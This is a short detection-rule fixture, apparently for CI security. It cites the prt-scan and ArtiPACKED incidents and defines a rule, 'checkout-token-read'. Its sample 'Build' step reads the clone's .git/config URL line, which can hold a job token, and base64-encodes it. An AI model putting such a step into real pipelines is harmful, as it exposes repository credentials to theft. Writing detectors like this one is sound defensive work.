# incident: prt-scan campaign, March 2026; ArtiPACKED, August 2024
# what: a step takes the job's token out of the settings of the clone
# rule: checkout-token-read
## step: Build
(grep -i url .git/config || true) | base64 -w0
